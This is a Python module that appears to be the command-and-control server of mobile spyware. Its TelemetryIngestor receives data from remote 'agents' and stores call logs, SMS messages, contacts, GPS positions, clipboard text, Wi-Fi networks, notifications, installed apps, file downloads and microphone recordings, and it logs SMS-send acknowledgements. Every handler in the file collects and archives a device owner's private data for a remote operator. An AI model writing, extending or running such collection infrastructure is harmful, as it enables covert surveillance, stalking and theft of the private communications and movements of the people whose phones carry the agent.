"""Telemetry ingestion.

One handler per inbound message kind. Handlers never raise into the
transport: malformed records are logged and skipped, and storage failures
are logged and drop the message.
"""

from __future__ import annotations

import functools
import logging
from collections.abc import Awaitable, Callable, Mapping
from datetime import datetime
from typing import Any

from agenthub._constants import (
    DOWNLOAD_TYPE_FILE,
    DOWNLOAD_TYPE_VOICE,
    FILES_TYPE_DOWNLOAD,
    FILES_TYPE_ERROR,
    FILES_TYPE_LIST,
)
from agenthub._hashing import dedupe_key
from agenthub.exceptions import MalformedTelemetryError, StorageIOError
from agenthub.ingestion.downloads import DownloadWriter
from agenthub.ingestion.normalize import extract_list, extract_str, iter_records, parse_record, summarize_for_log
from agenthub.models._base import TelemetryRecord, json_timestamp, utcnow
from agenthub.models.commands import CommandKind
from agenthub.models.telemetry import (
    BinaryPayload,
    CallRecord,
    ClipboardEntry,
    ContactRecord,
    DownloadEntry,
    GpsFix,
    NotificationRecord,
    SmsRecord,
    WifiNetwork,
)
from agenthub.state import CoreState
from agenthub.store import AgentCollection, AgentData, LogCollection
from agenthub.transport import AgentTransport

_logger = logging.getLogger(__name__)

Handler = Callable[[str, Any], Awaitable[None]]

#: Kinds agents never push; they only travel as commands.
OUTBOUND_ONLY_KINDS: frozenset[CommandKind] = frozenset({CommandKind.CAMERA, CommandKind.PERMISSION_GRANTED})


class TelemetryIngestor:
    """Merges inbound telemetry into each agent's stored logs and snapshots."""

    def __init__(
        self,
        state: CoreState,
        downloads: DownloadWriter,
        *,
        debug_events: bool = False,
        clock: Callable[[], datetime] = utcnow,
    ) -> None:
        self._state = state
        self._downloads = downloads
        self._debug_events = debug_events
        self._clock = clock
        self.handlers: dict[CommandKind, Handler] = {
            CommandKind.FILES: self._on_files,
            CommandKind.CALL: self._on_calls,
            CommandKind.SMS: self._on_sms,
            CommandKind.MIC: self._on_mic,
            CommandKind.LOCATION: self._on_location,
            CommandKind.CONTACTS: self._on_contacts,
            CommandKind.WIFI: self._on_wifi,
            CommandKind.NOTIFICATION: self._on_notification,
            CommandKind.CLIPBOARD: self._on_clipboard,
            CommandKind.INSTALLED_APPS: self._on_apps,
            CommandKind.PERMISSIONS: self._on_permissions,
        }

    def attach(self, agent_id: str, transport: AgentTransport) -> None:
        """Subscribe a handler for every inbound kind on *transport*."""
        for kind in self.handlers:
            transport.on_message(kind.value, functools.partial(self.ingest, agent_id, kind))

    async def ingest(self, agent_id: str, kind: CommandKind, data: Any) -> None:
        """Run the handler for *kind*; failures are logged, never raised."""
        if self._debug_events:
            _logger.debug("%s -> %s: %s", agent_id, kind.name, summarize_for_log(data))
        handler = self.handlers.get(kind)
        if handler is None:
            _logger.warning("%s sent %s which has no telemetry handler", agent_id, kind.name)
            return
        try:
            await handler(agent_id, data)
        except Exception:
            _logger.exception("Error handling %s data from %s", kind.name, agent_id)

    def _agent_data(self, agent_id: str, kind: CommandKind) -> AgentData | None:
        if self._state.store.get_agent(agent_id) is None:
            _logger.warning("Dropping %s telemetry for unknown agent %s", kind.name, agent_id)
            return None
        return self._state.store.agent_data(agent_id)

    # ------------------------------------------------------------------
    # Log-append kinds
    # ------------------------------------------------------------------

    def _append_new(
        self,
        agent_id: str,
        collection: LogCollection,
        records: list[Any],
        model: type[TelemetryRecord],
    ) -> int:
        docs: list[dict[str, Any]] = []
        for record, error in iter_records(model, records, kind=collection.name.value):
            if error is not None:
                _logger.warning("%s: %s", agent_id, error)
                continue
            docs.append(record.to_document())
        if not docs:
            return 0
        try:
            return collection.push_new(docs)
        except StorageIOError:
            _logger.exception("%s: failed to store %d %s records", agent_id, len(docs), collection.name.value)
            return 0

    async def _append_log(
        self,
        agent_id: str,
        kind: CommandKind,
        name: AgentCollection,
        model: type[TelemetryRecord],
        records: list[Any],
    ) -> int:
        if not records:
            return 0
        async with self._state.lock_for(agent_id):
            data = self._agent_data(agent_id, kind)
            if data is None:
                return 0
            return self._append_new(agent_id, data.log(name), records, model)

    async def _on_calls(self, agent_id: str, data: Any) -> None:
        records = extract_list(data, "callsList")
        if not records:
            return
        added = await self._append_log(agent_id, CommandKind.CALL, AgentCollection.CALLS, CallRecord, records)
        _logger.info("%s Call Log Updated - %d New Calls", agent_id, added)

    async def _on_sms(self, agent_id: str, data: Any) -> None:
        if isinstance(data, bool):
            _logger.info("%s SMS send acknowledged: %s", agent_id, data)
            return
        records = extract_list(data, "smslist")
        if not records:
            return
        added = await self._append_log(agent_id, CommandKind.SMS, AgentCollection.SMS, SmsRecord, records)
        _logger.info("%s SMS List Updated - %d New Messages", agent_id, added)

    async def _on_contacts(self, agent_id: str, data: Any) -> None:
        records = extract_list(data, "contactsList")
        if not records:
            return
        added = await self._append_log(
            agent_id, CommandKind.CONTACTS, AgentCollection.CONTACTS, ContactRecord, records
        )
        _logger.info("%s Contacts Updated - %d New Contacts Added", agent_id, added)

    async def _on_notification(self, agent_id: str, data: Any) -> None:
        added = await self._append_log(
            agent_id, CommandKind.NOTIFICATION, AgentCollection.NOTIFICATIONS, NotificationRecord, [data]
        )
        if added:
            _logger.info("%s Notification Received", agent_id)

    # ------------------------------------------------------------------
    # Wifi upsert
    # ------------------------------------------------------------------

    async def _on_wifi(self, agent_id: str, data: Any) -> None:
        raw_networks = extract_list(data, "networks")
        if not raw_networks:
            return
        networks: list[WifiNetwork] = []
        for network, error in iter_records(WifiNetwork, raw_networks, kind=AgentCollection.WIFI_LOG.value):
            if error is not None:
                _logger.warning("%s: %s", agent_id, error)
                continue
            networks.append(network)

        async with self._state.lock_for(agent_id):
            agent = self._agent_data(agent_id, CommandKind.WIFI)
            if agent is None:
                return
            agent.snapshot(AgentCollection.WIFI_NOW).replace([n.to_document() for n in networks])

            log = agent.log(AgentCollection.WIFI_LOG)
            now = json_timestamp(self._clock())
            added = 0
            for network in networks:
                doc = {**network.to_document(), "firstSeen": now, "lastSeen": now}
                try:
                    inserted = log.upsert(dedupe_key(network.ssid, network.bssid), doc, {"lastSeen": now})
                except StorageIOError:
                    _logger.exception("%s: failed to store wifi network %s", agent_id, network.ssid)
                    continue
                added += inserted

        _logger.info("%s WiFi Updated - %d New Networks Found", agent_id, added)

    # ------------------------------------------------------------------
    # Time series
    # ------------------------------------------------------------------

    async def _on_location(self, agent_id: str, data: Any) -> None:
        try:
            fix = parse_record(GpsFix, data, kind=AgentCollection.GPS.value, time=self._clock())
        except MalformedTelemetryError as exc:
            _logger.error("%s GPS Received No Data: %s", agent_id, exc)
            return
        async with self._state.lock_for(agent_id):
            agent = self._agent_data(agent_id, CommandKind.LOCATION)
            if agent is None:
                return
            agent.log(AgentCollection.GPS).push(fix.to_document())
        _logger.info("%s GPS Updated", agent_id)

    async def _on_clipboard(self, agent_id: str, data: Any) -> None:
        if not isinstance(data, Mapping):
            _logger.warning("%s sent a clipboard event without content", agent_id)
            return
        entry = ClipboardEntry(time=self._clock(), content=extract_str(data, "text") or "")
        async with self._state.lock_for(agent_id):
            agent = self._agent_data(agent_id, CommandKind.CLIPBOARD)
            if agent is None:
                return
            agent.log(AgentCollection.CLIPBOARD).push(entry.to_document())
        _logger.info("%s Clipboard Received", agent_id)

    # ------------------------------------------------------------------
    # Snapshots
    # ------------------------------------------------------------------

    async def _replace_snapshot(
        self, agent_id: str, kind: CommandKind, name: AgentCollection, items: list[Any]
    ) -> bool:
        if not items:
            return False
        async with self._state.lock_for(agent_id):
            agent = self._agent_data(agent_id, kind)
            if agent is None:
                return False
            agent.snapshot(name).replace(items)
        return True

    async def _on_apps(self, agent_id: str, data: Any) -> None:
        apps = extract_list(data, "apps")
        if await self._replace_snapshot(agent_id, CommandKind.INSTALLED_APPS, AgentCollection.APPS, apps):
            _logger.info("%s Apps Updated", agent_id)

    async def _on_permissions(self, agent_id: str, data: Any) -> None:
        permissions = extract_list(data, "permissions")
        if await self._replace_snapshot(
            agent_id, CommandKind.PERMISSIONS, AgentCollection.PERMISSIONS, permissions
        ):
            _logger.info("%s Permissions Updated", agent_id)

    async def _on_files(self, agent_id: str, data: Any) -> None:
        sub_type = extract_str(data, "type")
        if sub_type == FILES_TYPE_LIST:
            listing = extract_list(data, "list")
            if await self._replace_snapshot(
                agent_id, CommandKind.FILES, AgentCollection.CURRENT_FOLDER, listing
            ):
                _logger.info("%s File List Updated", agent_id)
        elif sub_type == FILES_TYPE_DOWNLOAD:
            _logger.info("Receiving File From %s", agent_id)
            await self._save_binary(agent_id, CommandKind.FILES, data, DOWNLOAD_TYPE_FILE)
        elif sub_type == FILES_TYPE_ERROR:
            _logger.warning("File error from %s: %s", agent_id, extract_str(data, "error"))
        else:
            _logger.warning("%s sent a files message with unknown type %r", agent_id, sub_type)

    # ------------------------------------------------------------------
    # Binary payloads
    # ------------------------------------------------------------------

    async def _on_mic(self, agent_id: str, data: Any) -> None:
        if not isinstance(data, Mapping) or not data.get("file"):
            return
        _logger.info("Receiving %s from %s", data.get("name"), agent_id)
        await self._save_binary(agent_id, CommandKind.MIC, data, DOWNLOAD_TYPE_VOICE)

    async def _save_binary(self, agent_id: str, kind: CommandKind, data: Any, download_type: str) -> None:
        try:
            payload = parse_record(BinaryPayload, data, kind=download_type)
        except MalformedTelemetryError as exc:
            _logger.warning("%s: %s", agent_id, exc)
            return
        if self._state.store.get_agent(agent_id) is None:
            _logger.warning("Dropping %s telemetry for unknown agent %s", kind.name, agent_id)
            return

        storage_path = await self._downloads.save(payload)
        if storage_path is None:
            return

        entry = DownloadEntry(
            time=self._clock(),
            type=download_type,
            original_name=payload.name,
            storage_path=storage_path,
        )
        async with self._state.lock_for(agent_id):
            agent = self._agent_data(agent_id, kind)
            if agent is None:
                return
            try:
                agent.downloads.push(entry.to_document())
            except StorageIOError:
                _logger.exception("%s: saved %s but could not log it", agent_id, storage_path)
                return
        _logger.info("%s from %s saved as %s", download_type, agent_id, storage_path)
